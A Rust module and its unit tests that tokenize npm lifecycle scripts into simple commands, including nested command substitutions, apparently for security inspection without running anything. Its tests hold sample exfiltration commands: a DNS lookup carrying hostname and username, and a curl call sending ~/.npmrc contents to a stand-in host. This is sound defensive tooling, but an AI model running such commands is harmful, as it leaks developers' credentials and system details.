//! A bounded tokenizer for the POSIX-shell subset npm lifecycle scripts use.
//!
//! npm runs each script with `sh -c` (`cmd.exe /d /s /c` on Windows). We never execute it;
//! we split it into simple commands the way the shell would: quotes (`'…'`, `"…"`),
//! backslash escapes, the operators `&&` `||` `;` `|` `&` and newlines, subshell parentheses,
//! comments, and command substitutions `$(…)` and `` `…` `` — whose commands are returned too,
//! marked, because `nslookup \`hostname\`.x.example` runs `hostname` first. Input size,
//! substitution depth and the number of commands are bounded; nothing panics.
//!
//! The well-known Rust shell parsers are either unmaintained (`conch-parser`) or full shell
//! implementations; this is all the resolution of lifecycle scripts needs.

/// Longest script text tokenized.
pub const MAX_INPUT: usize = 64 * 1024;
/// Deepest nesting of command substitutions followed.
pub const MAX_DEPTH: usize = 8;
/// Most simple commands returned for one script.
pub const MAX_COMMANDS: usize = 256;

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Command {
    /// Words after quote removal. A command substitution inside a word is kept as `$(…)`.
    pub words: Vec<String>,
    /// Nesting level of command substitution (0 = top level).
    pub depth: usize,
    /// The word list contains a command substitution.
    pub has_substitution: bool,
}

impl Command {
    /// The words after leading `NAME=value` assignments and `env`/`cross-env` prefixes.
    pub fn argv(&self) -> &[String] {
        let mut i = 0;
        while i < self.words.len() {
            let w = &self.words[i];
            let assignment = w.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            });
            if assignment || matches!(w.as_str(), "env" | "cross-env" | "cross-env-shell") {
                i += 1;
            } else {
                break;
            }
        }
        &self.words[i..]
    }
}

/// Splits `script` into simple commands (substitutions' commands included, after the
/// command that contains them).
pub fn parse(script: &str) -> Vec<Command> {
    let mut out = Vec::new();
    let text = match script.len() > MAX_INPUT {
        true => &script[..floor_char_boundary(script, MAX_INPUT)],
        false => script,
    };
    parse_into(text, 0, &mut out);
    out
}

fn floor_char_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

struct State<'o> {
    out: &'o mut Vec<Command>,
    pending: Vec<Command>,
    current: Command,
    word: String,
    in_word: bool,
}

impl State<'_> {
    fn end_word(&mut self) {
        if self.in_word {
            self.current.words.push(std::mem::take(&mut self.word));
            self.in_word = false;
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        let cmd = std::mem::take(&mut self.current);
        let depth = cmd.depth;
        if !cmd.words.is_empty() && self.out.len() < MAX_COMMANDS {
            self.out.push(cmd);
        }
        for c in self.pending.drain(..) {
            if self.out.len() < MAX_COMMANDS {
                self.out.push(c);
            }
        }
        self.current.depth = depth;
    }
}

fn parse_into(text: &str, depth: usize, out: &mut Vec<Command>) {
    let mut st = State {
        out,
        pending: Vec::new(),
        current: Command {
            depth,
            ..Command::default()
        },
        word: String::new(),
        in_word: false,
    };
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if st.out.len() >= MAX_COMMANDS {
            return;
        }
        let c = chars[i];
        match c {
            ' ' | '\t' | '\r' => st.end_word(),
            '\n' | ';' | '(' | ')' => st.end_command(),
            '&' | '|' => {
                st.end_command();
                if chars.get(i + 1) == Some(&c) {
                    i += 1;
                }
            }
            '#' if !st.in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '\\' => {
                if let Some(&n) = chars.get(i + 1) {
                    if n != '\n' {
                        st.word.push(n);
                        st.in_word = true;
                    }
                    i += 1;
                }
            }
            '\'' => {
                st.in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    st.word.push(chars[i]);
                    i += 1;
                }
            }
            '"' => {
                st.in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    match chars[i] {
                        '\\' if matches!(chars.get(i + 1), Some('"' | '\\' | '$' | '`')) => {
                            st.word.push(chars[i + 1]);
                            i += 2;
                        }
                        '$' if chars.get(i + 1) == Some(&'(') => {
                            i = substitution(&chars, i + 2, ')', depth, &mut st);
                        }
                        '`' => {
                            i = substitution(&chars, i + 1, '`', depth, &mut st);
                        }
                        ch => {
                            st.word.push(ch);
                            i += 1;
                        }
                    }
                }
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                st.in_word = true;
                i = substitution(&chars, i + 2, ')', depth, &mut st);
                continue;
            }
            '`' => {
                st.in_word = true;
                i = substitution(&chars, i + 1, '`', depth, &mut st);
                continue;
            }
            ch => {
                st.word.push(ch);
                st.in_word = true;
            }
        }
        i += 1;
    }
    st.end_command();
}

/// Reads a substitution body starting at `start` up to its closing `close`, parses it one
/// level deeper into the pending commands, and returns the index after the closer.
fn substitution(
    chars: &[char],
    start: usize,
    close: char,
    depth: usize,
    st: &mut State<'_>,
) -> usize {
    let mut i = start;
    let mut level = 0usize;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\\' => i += 1,
            None if c == '\'' || (c == '"' && close != '"') => quote = Some(c),
            None if close == ')' && c == '(' => level += 1,
            None if c == close && level == 0 => break,
            None if close == ')' && c == ')' => level = level.saturating_sub(1),
            None => {}
        }
        i += 1;
    }
    let body: String = chars[start.min(chars.len())..i.min(chars.len())]
        .iter()
        .collect();
    st.word.push_str(if close == ')' { "$(…)" } else { "`…`" });
    st.current.has_substitution = true;
    if depth < MAX_DEPTH {
        let mut inner = Vec::new();
        parse_into(&body, depth + 1, &mut inner);
        st.pending.extend(inner);
    }
    i + 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<Vec<String>> {
        parse(s).into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn chains_and_quotes() {
        assert_eq!(
            words("node-gyp rebuild || echo 'build failed; ok' && node \"scripts/x y.js\""),
            vec![
                vec!["node-gyp", "rebuild"],
                vec!["echo", "build failed; ok"],
                vec!["node", "scripts/x y.js"]
            ]
        );
        assert_eq!(
            words("a | b ; c & d"),
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"]]
        );
    }

    #[test]
    fn substitutions_are_commands_too() {
        let cmds = parse("nslookup `hostname`.$(whoami).x.example");
        assert_eq!(cmds[0].words, vec!["nslookup", "`…`.$(…).x.example"]);
        assert!(cmds[0].has_substitution);
        assert_eq!(cmds[1].words, vec!["hostname"]);
        assert_eq!(cmds[1].depth, 1);
        assert_eq!(cmds[2].words, vec!["whoami"]);
        let nested = parse("curl \"https://x.example/?d=$(cat $(ls ~/.npmrc))\"");
        assert!(
            nested
                .iter()
                .any(|c| c.words == ["ls", "~/.npmrc"] && c.depth == 2)
        );
    }

    #[test]
    fn assignments_and_comments() {
        let c = &parse("NODE_ENV=production cross-env FOO=1 node index.js # hi")[0];
        assert_eq!(c.argv(), ["node", "index.js"]);
        assert_eq!(words("# only a comment"), Vec::<Vec<String>>::new());
    }

    #[test]
    fn hostile_input_is_bounded() {
        let deep = "$(".repeat(10_000);
        let _ = parse(&deep);
        let many = "a;".repeat(100_000);
        assert!(parse(&many).len() <= MAX_COMMANDS);
        let _ = parse("\"unterminated `x $(y");
        let _ = parse("é\\");
    }
}
